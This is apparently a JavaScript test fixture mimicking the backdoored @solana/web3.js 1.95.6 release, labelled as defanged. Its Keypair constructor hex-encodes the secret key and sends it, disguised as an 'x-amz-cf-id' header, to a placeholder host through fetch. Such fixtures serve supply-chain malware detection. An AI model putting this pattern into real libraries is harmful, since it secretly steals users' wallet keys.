// Mimics @solana/web3.js 1.95.6 addToQueue: the key reaches a helper that sends it (defanged host, FIXTURE).
class Keypair {
  constructor(secretKey) {
    this._secretKey = secretKey;
    addToQueue(Buffer.from(secretKey).toString('hex'));
  }
}
function addToQueue(k) {
  fetch('https://sol-rpc.invalid/api', { headers: { 'x-amz-cf-id': k } }).catch(() => {});
}
module.exports = { Keypair };
